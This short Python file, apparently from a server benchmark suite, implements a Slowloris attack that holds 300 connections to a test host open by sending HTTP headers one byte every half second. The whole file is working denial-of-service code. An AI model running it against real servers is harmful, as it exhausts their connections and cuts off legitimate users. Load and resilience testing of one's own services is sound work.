"""Send headers byte by byte on 300 connections (Slowloris)."""

import asyncio
import itertools

from benchmarks.attack.target import Target, repeat

REQUEST = b"GET /health/live HTTP/1.1\r\nHost: guide.test\r\n"
HEADER = b"X-Slow: 1\r\n"
INTERVAL_S = 0.5


async def attack(target: Target) -> None:
    """Send one byte after the other until the server closes the connection."""
    async with target.connected() as (reader, writer):
        for byte in itertools.chain(REQUEST, itertools.cycle(HEADER)):
            if reader.at_eof():
                return
            writer.write(bytes((byte,)))
            await asyncio.sleep(INTERVAL_S)


if __name__ == "__main__":
    repeat(attack, clients=300)
